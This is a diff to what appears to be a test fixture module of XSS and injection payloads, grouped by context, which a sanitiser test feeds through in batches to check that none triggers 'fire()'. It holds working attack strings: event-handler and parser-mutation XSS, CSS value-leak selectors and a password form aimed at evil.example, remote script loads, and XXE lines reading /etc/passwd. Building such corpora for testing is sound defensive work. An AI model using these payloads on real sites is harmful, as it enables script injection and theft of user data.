@@ -1,8 +1,10 @@
 """Texts that try to run as script, each in another way. `fire()` is what they would call; nothing must.
 
 Our own collection, by the place they hope to land in: plain text, an attribute, an address, a block of
-script or JSON, a template, a style, and what a browser repairs or reads differently than a filter does.
+script, JSON or XML, a template, a style, and what a browser repairs or reads differently than a filter does.
 """
+
+from collections.abc import Iterator, Sequence
 
 TEXT = [
     "<script>fire()</script>",
@@ -106,4 +108,165 @@ READ_OTHERWISE = [
     "<<script>fire();//<</script>",
 ]
 
-ALL = [*TEXT, *ATTRIBUTE, *ADDRESS, *BLOCK, *TEMPLATE, *READ_OTHERWISE]
+HANDLER = [
+    "<img src onerror=fire``>",
+    '<img src=x onerror="fire&lpar;&rpar;">',
+    "<img src=x onerror=&#x66;ire()>",
+    "<img src=x onerror=window['fi'+'re']()>",
+    "<img src=x onerror=eval(atob('ZmlyZSgp'))>",
+    "<img src=x onerror=\\u0066ire()>",
+    "<img srcset='x 1x' onerror=fire()>",
+    "<picture><source srcset=x><img onerror=fire()></picture>",
+    "<video src=x onerror=fire() controls></video>",
+    "<video poster=javascript:fire()></video>",
+    "<audio><source src=x onerror=fire()></audio>",
+    "<body onpageshow=fire() onhashchange=fire()>",
+    "<body onfocus=fire() onresize=fire() onscroll=fire()>",
+    "<frameset onload=fire()><frame src=javascript:parent.fire()></frameset>",
+    "<textarea autofocus onfocus=fire()></textarea>",
+    "<keygen autofocus onfocus=fire()>",
+    "<button autofocus onfocus=fire() onblur=fire()>x</button>",
+    "<div contenteditable autofocus onfocus=fire()>x</div>",
+    "<p id=fire tabindex=0 onfocusin=fire() autofocus>x</p>",
+    "<details ontoggle=fire()><summary autofocus onfocus=fire()>x</summary></details>",
+    "<dialog open onclose=fire()><form method=dialog><button>x</button></form></dialog>",
+    "<div popover id=pop onbeforetoggle=fire()>x</div><button popovertarget=pop>x</button>",
+    "<p style='animation:x 1s' onanimationend=fire() ontransitionend=fire()>x</p>",
+    "<p onpointerover=fire() onwheel=fire() oncopy=fire()>x</p>",
+    "<svg><animateTransform onend=fire() onbegin=fire() attributeName=transform dur=1s></svg>",
+    "<svg><image href=x onerror=fire()></svg>",
+    "<svg><style onload=fire()></style></svg>",
+    "<link rel=preload as=style href=x onerror=fire()>",
+    "<script onerror=fire() src=x></script>",
+    "<track onerror=fire() src=x default>",
+]
+FRAME = [
+    '<iframe srcdoc="&lt;img src=x onerror=parent.fire()&gt;"></iframe>',
+    "<iframe src='data:text/html,<script>parent.fire()</script>'></iframe>",
+    "<iframe onload=fire()></iframe>",
+    '<iframe name="<script>fire()</script>" src=about:blank onload=fire()>',
+    "<object data='data:text/html,<script>parent.fire()</script>'></object>",
+    "<object type=text/html data=x onerror=fire()></object>",
+    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=fire()>'>",
+    "<applet code=fire archive=//evil.example/x.jar></applet>",
+    "<fencedframe src=//evil.example/></fencedframe>",
+    '<meta http-equiv=refresh content="0; url=data:text/html,<script>fire()</script>">',
+    "<META HTTP-EQUIV='Set-Cookie' Content='sessionid=evil'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
+    "<meta charset=utf-7>+ADw-script+AD4-fire()+ADw-/script+AD4-",
+    "<base href=//evil.example/><script src=x.js></script>",
+    "<base target=_top><a href=javascript:fire()>x</a>",
+    "<form id=f></form><button form=f formaction=javascript:fire()>x</button>",
+    "<form action=//evil.example/><input name=password autofocus></form>",
+    "<input type=image src=x onerror=fire() formaction=javascript:fire()>",
+    "<form><input name=attributes><input name=nodeName onfocus=fire() autofocus></form>",
+    "<a id=fired></a><a id=fired name=push href=javascript:fire()>x</a>",
+]
+STYLE = [
+    '<p style="background:url(javascript:fire())">x</p>',
+    '<p style="width:expression(fire())">x</p>',
+    '<p style="xss:ex/**/pression(fire())">x</p>',
+    '<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>',
+    "<p style='behavior:url(//evil.example/x.htc)'>x</p>",
+    "<style>*{background:url('//evil.example/?')}</style>",
+    "<style><img src='</style><img src=x onerror=fire()>'></style>",
+    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "</style><script>fire()</script>",
+]
+MUTATING = [
+    '<svg></p><style><a id="</style><img src=x onerror=fire()>">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=fire()></style></mglyph></table></mtext></math>",
+    '<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=fire() src>">',
+    "<svg><title><style><!--</title><img src=x onerror=fire()>--></style></title></svg>",
+    "<svg><desc><noembed></desc><img src=x onerror=fire()></noembed></svg>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=fire()></annotation-xml></math>",
+    "<noscript><style></noscript><img src=x onerror=fire()></style>",
+    '<noframes><p title="</noframes><img src=x onerror=fire()>"></noframes>',
+    '<xmp><p title="</xmp><svg/onload=fire()>">',
+    "<plaintext></plaintext><img src=x onerror=fire()>",
+    "<listing>&lt;img src=x onerror=fire()&gt;</listing>",
+    "<select><template><img src=x onerror=fire()></template></select>",
+    "<select><iframe></select><img src=x onerror=fire()></iframe>",
+    "<table><td><script>fire()</script></td><caption><img src=x onerror=fire()>",
+    "<form><div></form><form id=x></div><img src=x onerror=fire()></form>",
+    "<template shadowrootmode=open><img src=x onerror=fire()></template>",
+    "<p title='`'><img alt='` onerror=fire() src=x '>",
+    "<![CDATA[<img src=x onerror=fire()>]]>",
+    "<?xml-stylesheet href=javascript:fire()?><img src=x onerror=fire()>",
+    "<!--><img src=x onerror=fire()>-->",
+    "<!--!><img src=x onerror=fire()>",
+    "<!-- --!><img src=x onerror=fire()>",
+    "<!doctype x [<!entity y '<script>fire()</script>'>]>&y;",
+    "</p ><img src=x onerror=fire()><p",
+    "</ x><img/**/src=x onerror=fire()>",
+]
+MACHINE = [
+    "</script\t><img src=x onerror=fire()>",
+    "</SCRIPT/><svg onload=fire()>",
+    "<!--<script></script><script>fire()//",
+    '"}</script><script>fire()</script>{"',
+    '\\"}],"x":fire(),"y":[{"',
+    "\\u003c/script\\u003e\\u003cscript\\u003efire()",
+    "]]></summary><script xmlns='http://www.w3.org/1999/xhtml'>fire()</script><![CDATA[",
+    "</title><x:script xmlns:x='http://www.w3.org/1999/xhtml'>fire()</x:script>",
+    "&lt;/summary&gt;&lt;img src=x onerror=fire()&gt;",
+    "&amp;lt;img src=x onerror=fire()&amp;gt;",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
+]
+DISGUISED = [
+    "<scr\x00ipt>fire()</scr\x00ipt>",
+    "<img src=x onerror\x0b=fire()>",
+    "<img\x0csrc=x\x0conerror=fire()>",
+    "<svg\u2003onload=fire()>",
+    "<\u00adscript>fire()</\u00adscript>",
+    "<script\ufeff>fire()</script>",
+    "\u2039script\u203afire()\u2039/script\u203a",
+    "\u02c2img src=x onerror=fire()\u02c3",
+    "\ufe64img src=x onerror=fire()\ufe65",
+    "<\u0131mg src=x onerror=fire()>",
+    "<img src=x \u043enerror=fire()>",
+    "&LT;script&GT;fire()&LT;/script&GT;",
+    "&#0000060;script&#0000062;fire()",
+    "&#x3c;img src=x onerror=fire()&#x3e",
+    "&ltscript&gtfire()&lt/script&gt",
+    "\\x3cscript\\x3efire()\\x3c/script\\x3e",
+    "%253Cscript%253Efire()%253C/script%253E",
+    "%u003Cscript%u003Efire()",
+    "\u001b[31m<script>fire()</script>",
+    "\ud7ff\ue000<script>fire()</script>\uffff",
+]
+SCHEME = [
+    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+fire()//'>",
+    " javascript:fire()",
+    "\u00a0javascript:fire()",
+    "java\nscript:fire()",
+    "java\rscript:fire()",
+    "javascript:void(fire())",
+    "javascript:`${fire()}`",
+    "javascript://nhs.uk/%0Afire()",
+    "java%73cript:fire()",
+    "data:text/html;charset=utf-7,+ADw-script+AD4-parent.fire()",
+    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>fire()</script>",
+    "https:javascript:fire()",
+    "https://a.example/'onfocus='fire()'autofocus='",
+    "https://a.example/><script>fire()</script>",
+    "blob:javascript:fire()",
+    "/\\evil.example/x.js",
+]
+
+NEWER = [*HANDLER, *FRAME, *STYLE, *MUTATING, *MACHINE, *DISGUISED, *SCHEME]
+ALL = [*TEXT, *ATTRIBUTE, *ADDRESS, *BLOCK, *TEMPLATE, *READ_OTHERWISE, *NEWER]
+KEPT = [each for each in ALL if "\x00" not in each]  # no database keeps the sign that is left out
+
+
+def batches(letters: int = 1_500, of: Sequence[str] = ALL) -> Iterator[str]:
+    """All of them, several in one text of about so many letters: what lets one through lets its text through."""
+    held = ""
+    for attack in of:
+        if held and len(held) + len(attack) >= letters:
+            yield held
+            held = ""
+        held = f"{held}\n{attack}" if held else attack
+    yield held
